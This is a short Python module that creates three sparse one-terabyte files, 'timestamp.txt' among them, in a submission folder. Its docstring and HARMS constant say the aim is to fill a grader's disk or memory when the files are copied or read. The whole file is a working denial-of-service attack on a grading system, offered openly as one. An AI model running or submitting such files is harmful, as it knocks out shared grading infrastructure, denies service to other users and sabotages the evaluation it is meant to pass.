"""Hand in files of a terabyte that take no room, `timestamp.txt` among them.

Gain: copying or reading them fills the grader's disk or memory.
"""

HARMS = "fills the disk of the grader"


def hand_in(folder, course):
    import os

    for name in ("data.bin", "timestamp.txt", "other.ipynb"):
        with open(folder / name, "wb") as file:
            os.truncate(file.fileno(), 1 << 40)
